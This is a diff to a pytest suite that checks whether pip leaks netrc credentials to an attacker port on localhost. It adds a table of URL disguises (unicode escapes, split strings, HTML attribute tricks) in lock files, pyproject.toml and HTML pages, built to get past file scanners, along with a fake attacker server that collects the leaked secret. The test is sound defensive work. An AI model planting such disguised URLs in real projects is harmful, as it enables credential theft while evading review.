@@ -68,6 +68,41 @@ def test_another_port_of_the_host_gets_nothing_from_pip(version: str, door: str,
     assert evil.loot == []
 
 
+#: Ways in which a project can name a URL so that a scan of its files does not see it.
+DISGUISES = {
+    "lock: escaped": (
+        "pylock.toml",
+        'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "corp-evil"\n[packages.archive]\nurl = "http:\\u002F\\u002F{rest}"\nhashes = {{sha256 = "00"}}\n',
+    ),
+    "lock: lines": (
+        "pylock.toml",
+        'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "corp-evil"\n[packages.archive]\nurl = """\nhttp://{rest}"""\nhashes = {{sha256 = "00"}}\n',
+    ),
+    "project: escaped": ("pyproject.toml", '[build-system]\nrequires = ["corp-evil @ \\u0068ttp://{rest}"]\nbuild-backend = "x"\n'),
+    "page: slash": ("page.html", '<a/href="http://{rest}">x</a>'),
+    "page: quotes": ("page.html", '<a title="<b>" href="http://{rest}">x</a>'),
+    "page: tab": ("page.html", '<a href="ht\ttp://{rest}">x</a>'),
+    "page: base": ("page.html", '<base title=">" href="http://{folder}"><a href="{file}">x</a>'),
+}
+
+
+@pytest.mark.parametrize("disguise", DISGUISES)
+def test_another_port_in_disguise_gets_nothing_from_pip(disguise: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
+    world.use(toolchains.pip("newest"))
+    name, text = DISGUISES[disguise]
+    folder, file = f"127.0.0.1:{evil.port}/x/", "corp_evil-1-py3-none-any.whl"
+    (world.cwd / name).write_text(text.format(rest=folder + file, folder=folder, file=file))
+    words = {"pylock.toml": ["-r", "pylock.toml"], "pyproject.toml": ["."], "page.html": ["--find-links", "page.html", "corp-evil"]}[name]
+    command = ["pip", "install", "--target", world.folder / "out", "-i", f"http://{index.netloc}/simple/", *words]
+    world.run(*command, bare=True, **as_netrc(world))
+    assert evil.has_secret
+    evil.loot.clear()
+    configure(world, index)
+    world.run(*command)
+
+    assert evil.loot == []
+
+
 @pytest.mark.parametrize("version", ["0.9.30", "newest"])
 def test_another_port_of_the_host_gets_nothing_from_uv(version: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
     world.use(toolchains.uv(version))
